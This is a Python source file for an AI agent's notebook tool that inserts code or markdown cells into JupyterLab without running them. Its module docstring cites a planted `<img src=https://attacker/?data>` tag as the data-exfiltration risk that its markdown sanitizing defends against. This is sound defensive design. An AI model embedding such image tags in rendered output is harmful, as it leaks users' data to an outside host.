"""The notebook_insert_cell tool: a code or markdown cell below the `%%intern` cell that started the turn.

The kernel half only: the tool saves the script under the session's scripts/ and emits a CellInsert event; the
side panel (through the `mlintern` comm) inserts the cell, the card offers it otherwise. Nothing here executes it.
A markdown cell is made inert first (`agent.markdown_safe`): JupyterLab renders raw HTML and images in markdown
cells, so a planted `<img src=https://attacker/?data>` would otherwise be fetched as soon as the cell shows.
"""

from __future__ import annotations

import re
from typing import Literal

from ..agent import events as ev
from ..agent.markdown_safe import inert_markdown
from ..agent.tooling import ScriptStore
from ..tools.registry import Tool, ToolContext, ToolError

MAX_CELL_CHARS = 200_000


def _script_name(scripts: ScriptStore, call_id: str, cell_type: str) -> str:
    count = scripts.count("cell_*") + 1
    safe = re.sub(r"[^A-Za-z0-9_-]", "", call_id)[:24] or "call"
    return f"cell_{count:03d}_{safe}.{'py' if cell_type == 'code' else 'md'}"


async def notebook_insert_cell(source: str, ctx: ToolContext, cell_type: Literal["code", "markdown"] = "code") -> str:
    """Add a new code or markdown cell below the user's %%intern cell, never run by itself: the person reads,
    edits and runs it. Every script you write goes into a cell (a training script too, before you launch it with
    hf_jobs); a markdown cell suits a plan or a results table.

    Args:
        source: the full text of the cell, e.g. a complete training script
        cell_type: "code" (default) or "markdown"
    """
    if len(source) > MAX_CELL_CHARS:
        raise ToolError(f"the cell is {len(source)} characters; keep it under {MAX_CELL_CHARS}")
    if cell_type == "markdown":
        source = inert_markdown(source)
    scripts = ctx.script_store()
    path = scripts.save(_script_name(scripts, ctx.call_id, cell_type), source)
    ctx.emit(ev.CellInsert(call_id=ctx.call_id, source=source, cell_type=cell_type,
                           anchor_cell_id=ctx.anchor_cell_id, script_path=str(path)))
    return (f"Inserted a {cell_type} cell below the user's %%intern cell (not executed) and saved it as {path}. "
            "The user runs it when ready.")


def insert_cell_tool() -> Tool:
    return Tool.from_function(notebook_insert_cell, access="session")
